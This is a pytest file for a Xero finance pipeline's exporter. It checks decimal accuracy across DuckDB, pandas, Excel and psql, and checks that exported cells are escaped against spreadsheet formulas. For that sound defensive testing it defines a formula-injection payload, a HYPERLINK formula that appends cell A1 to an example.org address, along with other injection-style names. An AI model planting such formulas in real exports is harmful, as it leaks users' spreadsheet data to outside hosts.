"""Exported files as others read them: DuckDB, pandas, Excel and psql find the very figures, and no formula."""

from __future__ import annotations

import io
import os
import shutil
import stat
import subprocess
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pandas as pd
import pytest
from sqlalchemy import insert, select
from sqlalchemy.engine import make_url

from xero_pipeline.export import exporter
from xero_pipeline.export.csv_file import guard_text
from xero_pipeline.export.errors import ExportFailed
from xero_pipeline.export.exporter import ExportFormat, choose_tables, export_to_file, export_to_folder
from xero_pipeline.warehouse.database.metadata import metadata
from xero_pipeline.warehouse.figures.exporting import ExportFilter, ExportTable, ValueType, list_export_tables
from xero_pipeline.warehouse.schema import revenue_documents
from xero_pipeline.warehouse.store import Warehouse
from xero_pipeline_tests.conftest import FakeClock
from xero_pipeline_tests.migrated import make_tables
from xero_pipeline_tests.warehouse.figures.figures_given import (
    KEY,
    NOW,
    WEEK,
    account,
    cash,
    cell,
    land_cash,
    land_profit,
    land_revenue,
    line,
    profit,
    revenue,
)

FORMULA = '=HYPERLINK("https://example.org/"&A1,"paid")'
ODD_NAMES = [
    FORMULA,
    "-Sales",
    "+61 2",
    "@home",
    "\tTab",
    "\rReturn",
    'Zürich, “North”\r\nand "South"',
    "0200",
    "",
    "'",
]
EVERYTHING = ExportFilter()


def fill(warehouse: Warehouse) -> None:
    """Two organisations with three weeks of figures: amounts that no binary float holds, and odd names."""
    for number, tenant in enumerate(("org-1", "=org-2")):
        for weeks in range(3):
            week, base = WEEK.shift(-weeks), Decimal("0.10") + weeks + number
            lines = [line(f"a{at}", str(base * (at + 1)), name=name) for at, name in enumerate(ODD_NAMES)]
            land_profit(warehouse, profit(str(base), *lines), week=week, tenant_id=tenant)
            land_revenue(warehouse, revenue(cell("=2+2", "north", "1234567.89", "0.33")), week=week, tenant_id=tenant)
            land_cash(warehouse, cash(account("b", "-99999999999.99", name=FORMULA)), week=week, tenant_id=tenant)
    document = {
        "tenant_id": "org-1",
        "week_ending": WEEK.ending,
        "document_id": "d",
        "document_type": "invoice",
        "document_date": WEEK.start,
        "status": "PAID",
        "contact_name": FORMULA,
        "document_currency": "USD",
        "currency_rate": Decimal("1.3528990001"),
        "net": Decimal("0.07"),
        "tax": Decimal("0.01"),
        "data_source": "xero_api",
        "currency": "AUD",
        "updated_at": NOW,
    }
    with warehouse.engine.begin() as connection:
        connection.execute(insert(revenue_documents).values(document))
    land_profit(warehouse, profit("7.07", line("a0", "7.07", name=FORMULA)), week=WEEK.shift(-2))


@pytest.fixture
def filled(sqlite_warehouse: Warehouse) -> Warehouse:
    fill(sqlite_warehouse)
    return sqlite_warehouse


def expected_rows(warehouse: Warehouse, table: ExportTable) -> list[dict[str, Any]]:
    with warehouse.engine.connect() as connection:
        return [dict(row) for row in connection.execute(select(*table.source.c)).mappings()]


def sort_rows(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return sorted(rows, key=lambda row: tuple(str(value) for value in row.values()))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return tmp_path / "exported"


def export(warehouse: Warehouse, folder: Path, kind: str, *tables: str) -> list[Path]:
    written = export_to_folder(warehouse.engine, folder, ExportFormat(kind), choose_tables(tables), EVERYTHING)
    return [one.file for one in written]


def test_every_table_of_figures_and_every_view_is_exported() -> None:
    tables = list_export_tables()
    figures = {name for name, table in metadata.tables.items() if {"data_source", "currency"} <= set(table.c.keys())}
    assert tables.keys() >= figures | {"weekly_summary", "restatements"}
    assert not [name for name in tables if "token" in name or "log" in name or "session" in name]
    for table in tables.values():
        kinds = {column.name: column.type for column in table.columns}
        assert kinds.get("week_ending", ValueType.DATE) is ValueType.DATE, table.name
        assert kinds.get("updated_at", ValueType.MOMENT) is ValueType.MOMENT, table.name


def test_duckdb_pandas_and_excel_read_the_very_figures_and_no_formula(
    database_url: str, clock: FakeClock, folder: Path
) -> None:
    warehouse = Warehouse.open(database_url, [KEY], clock)
    make_tables(warehouse.engine)
    fill(warehouse)
    for kind in ("parquet", "csv", "xlsx"):
        export(warehouse, folder, kind)
    check_duckdb(warehouse, folder)
    check_pandas(warehouse, folder)
    check_excel(warehouse, folder)
    warehouse.close()


def check_duckdb(filled: Warehouse, folder: Path) -> None:
    for table in list_export_tables().values():
        rows = expected_rows(filled, table)
        assert rows or table.name not in ("financial_weekly_lines", "restatements")
        parquet = duckdb.sql(f"SELECT * FROM '{folder}/{table.name}.parquet'")
        for name, kind in zip(parquet.columns, parquet.types, strict=True):
            column = next(column for column in table.columns if column.name == name)
            if column.type is ValueType.DECIMAL:
                assert str(kind) == f"DECIMAL({column.precision},{column.scale})"
            elif column.type in (ValueType.DATE, ValueType.MOMENT):
                assert str(kind) == {"date": "DATE", "moment": "TIMESTAMP WITH TIME ZONE"}[column.type]
        read = [dict(zip(parquet.columns, row, strict=True)) for row in parquet.fetchall()]
        assert sort_rows(read) == sort_rows(rows), table.name
        types = {
            column.name: f"DECIMAL({column.precision},{column.scale})"
            for column in table.columns
            if column.type is ValueType.DECIMAL
        }
        if rows and types:
            sums = ", ".join(f"coalesce(sum({name}), 0)" for name in types)
            from_csv = duckdb.sql(
                f"SELECT {sums} FROM read_csv('{folder}/{table.name}.csv', types = {types})"
            ).fetchall()
            assert from_csv[0] == tuple(sum(row[name] for row in rows if row[name] is not None) for name in types)


def check_pandas(filled: Warehouse, folder: Path) -> None:
    frame = pd.read_csv(
        folder / "financial_weekly_lines.csv",
        keep_default_na=False,
        converters={"amount": Decimal, "account_code": str},
        parse_dates=["week_ending", "updated_at"],
    )
    rows = expected_rows(filled, list_export_tables()["financial_weekly_lines"])
    assert frame["amount"].sum() == sum(row["amount"] for row in rows)
    assert set(frame["account_name"]) == {guard_text(name) for name in ODD_NAMES}
    assert set(frame["account_name"]).isdisjoint(ODD_NAMES[:6])
    assert set(frame["account_code"]) == {"200"}
    assert set(frame["tenant_id"]) == {"org-1", "'=org-2"}
    assert set(frame["week_ending"].dt.date) == {row["week_ending"] for row in rows}
    assert set(frame["updated_at"].dt.to_pydatetime()) == {row["updated_at"] for row in rows}
    negative = pd.read_csv(folder / "cash_position_weekly.csv", dtype=str)
    assert set(negative["closing_balance"]) == {"-99999999999.99"}


def check_excel(filled: Warehouse, folder: Path) -> None:
    for file in folder.glob("*.xlsx"):
        table = list_export_tables()[file.stem]
        book = openpyxl.load_workbook(file)
        (sheet,) = book.worksheets
        assert sheet.title == table.name
        header, *cells = sheet.iter_rows()
        assert [cell.value for cell in header] == [column.name for column in table.columns]
        assert not [cell for row in cells for cell in row if cell.data_type == "f" or cell.hyperlink]
        rows = expected_rows(filled, table)
        assert len(cells) == len(rows)
        for at, column in enumerate(table.columns):
            values = [row[at].value for row in cells]
            if column.type is ValueType.DECIMAL:
                assert {row[at].data_type for row in cells} <= {"n"}
                given = [row[column.name] for row in rows if row[column.name] is not None]
                assert sum(Decimal(str(value)) for value in values if value is not None) == sum(given)
                assert round(
                    sum(float(value) for value in values if value is not None), min(column.scale, 10)
                ) == float(sum(given))
            elif column.type is ValueType.DATE:
                assert {value.date() for value in values} == {row[column.name] for row in rows}
            elif column.type is ValueType.MOMENT:
                given = {row[column.name] for row in rows} - {None}
                assert {value.replace(tzinfo=UTC) for value in values if value is not None} == given
        frame = pd.read_excel(file)
        assert list(frame.columns) == [column.name for column in table.columns]
    names = {row[4].value for row in openpyxl.load_workbook(folder / "financial_weekly_lines.xlsx").active.iter_rows()}
    assert names >= {FORMULA, "-Sales", "+61 2", "@home", "0200"}


def test_psql_copies_the_csv_back_with_the_same_sums_and_nulls(
    postgres_url: str, clock: FakeClock, folder: Path
) -> None:
    if shutil.which("psql") is None:
        pytest.skip("psql is not installed")
    warehouse = Warehouse.open(postgres_url, [KEY], clock)
    make_tables(warehouse.engine)
    land_profit(warehouse, profit("0.30", line("a", "0.10", name=FORMULA), line("b", "0.20", name="")))
    land_profit(warehouse, profit("0.31", line("a", "0.31", name=FORMULA)))
    export(warehouse, folder, "csv")
    address = make_url(postgres_url)
    script = "".join(
        f"CREATE TEMP TABLE copied_{name} (LIKE {name});\n"
        f"\\copy copied_{name} FROM '{folder / name}.csv' WITH (FORMAT csv, HEADER match)\n"
        f"SELECT count(*) FROM copied_{name};\n"
        for name in ("financial_weekly_lines", "restatements", "weekly_summary")
    )
    script += (
        "SELECT sum(amount) = (SELECT sum(amount) FROM financial_weekly_lines) FROM copied_financial_weekly_lines;\n"
        "SELECT sum(net_profit) = (SELECT sum(net_profit) FROM weekly_summary) FROM copied_weekly_summary;\n"
        "SELECT count(*) FROM (SELECT old_value, new_value, restated_at FROM copied_restatements EXCEPT "
        "SELECT old_value, new_value, restated_at FROM restatements) AS other;\n"
    )
    done = subprocess.run(
        ["psql", "-XqAt", "-v", "ON_ERROR_STOP=1", "-d", address.set(drivername="postgresql").render_as_string(False)],
        input=script,
        capture_output=True,
        text=True,
        check=True,
    )
    warehouse.close()
    assert done.stdout.split() == ["1", "4", "1", "t", "t", "0"]


def test_only_the_chosen_weeks_tables_and_organisation_are_exported(filled: Warehouse, folder: Path) -> None:
    chosen = ExportFilter(first=date(2026, 11, 8), last=date(2026, 11, 14), tenant_id="org-1")
    tables = choose_tables({"revenue_weekly", "weekly_summary"})
    written = export_to_folder(filled.engine, folder, ExportFormat.CSV, tables, chosen)
    assert [(one.table, one.rows) for one in written] == [("revenue_weekly", 1), ("weekly_summary", 1)]
    assert sorted(os.listdir(folder)) == ["revenue_weekly.csv", "weekly_summary.csv"]
    assert "2026-11-14" in (folder / "revenue_weekly.csv").read_text()


def test_a_file_is_its_owners_and_a_failed_export_leaves_the_earlier_files(
    filled: Warehouse, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = export(filled, folder, "csv")
    export(filled, folder, "parquet", "revenue_weekly")
    assert {stat.S_IMODE(file.stat().st_mode) for file in folder.iterdir()} == {0o600}
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    before = {file: file.read_bytes() for file in files}

    def break_off(*_: object) -> None:
        raise OSError(28, "No space left on device")

    land_profit(filled, profit("8.08", line("a0", "8.08")), week=WEEK)
    monkeypatch.setattr(exporter, "_wait_for_disk", break_off)
    with pytest.raises(ExportFailed, match="No space left"):
        export(filled, folder, "csv")
    assert {file: file.read_bytes() for file in files} == before
    assert not [name for name in os.listdir(folder) if name.startswith(".")]


def test_a_workbook_of_all_tables_has_a_sheet_each(filled: Warehouse) -> None:
    file = io.BytesIO()
    export_to_file(filled.engine, file, ExportFormat.XLSX, choose_tables(()), EVERYTHING)
    assert openpyxl.load_workbook(file).sheetnames == list(list_export_tables())


def test_what_excel_cannot_keep_is_refused_and_not_rounded(filled: Warehouse, folder: Path) -> None:
    land_profit(filled, profit("1.00", line("a", "12345678901234.56")), week=WEEK)
    with pytest.raises(ExportFailed, match="more digits than Excel keeps"):
        export(filled, folder, "xlsx")
    assert not os.listdir(folder)
    land_profit(filled, profit("1.00", line("a", "1.00", name="n" * 40_000)), week=WEEK)
    with pytest.raises(ExportFailed, match="too long for a cell"):
        export(filled, folder, "xlsx")


def test_an_unknown_table_is_named_with_those_that_exist() -> None:
    with pytest.raises(ExportFailed, match=r"no table xero_tokens\. There are: financial_weekly,"):
        choose_tables({"xero_tokens", "revenue_weekly"})


def test_moments_are_written_in_utc_whatever_their_zone(filled: Warehouse, folder: Path) -> None:
    export(filled, folder, "csv", "financial_weekly")
    moment = datetime(2026, 11, 24, 1, 0, tzinfo=UTC).isoformat(timespec="microseconds")
    assert moment in (folder / "financial_weekly.csv").read_text()


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("-120.00", "-120.00"),
        ("-3", "-3"),
        ("-1+1", "'-1+1"),
        ("-", "'-"),
        ("+1", "'+1"),
        ("-1.", "'-1."),
        ("=1", "'=1"),
    ],
)
def test_a_negative_amount_is_no_formula(text: str, written: str) -> None:
    assert guard_text(text) == written


def test_no_file_is_written_where_a_folder_has_the_name_of_one(filled: Warehouse, tmp_path: Path) -> None:
    tables = choose_tables(["financial_weekly", "revenue_weekly"])
    folder = tmp_path / "out"
    (folder / "revenue_weekly.csv").mkdir(parents=True)
    with pytest.raises(ExportFailed, match=r"revenue_weekly\.csv is a folder"):
        export_to_folder(filled.engine, folder, ExportFormat.CSV, tables, ExportFilter())
    assert [path.name for path in folder.iterdir()] == ["revenue_weekly.csv"]
